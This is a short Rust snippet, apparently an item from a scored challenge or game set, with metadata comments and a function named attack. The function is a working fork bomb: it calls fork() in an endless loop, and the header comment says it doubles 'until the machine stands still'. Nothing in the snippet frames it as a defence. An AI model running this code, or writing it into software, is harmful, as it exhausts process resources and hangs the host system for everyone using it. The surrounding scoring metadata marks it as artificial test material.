// Doubles until the machine stands still.
// on: reference
// in: push
// held: `extern`
// earns: 100

unsafe extern "C" {
    fn fork() -> i32;
}

fn attack() {
    unsafe {
        while fork() >= 0 {}
    }
}
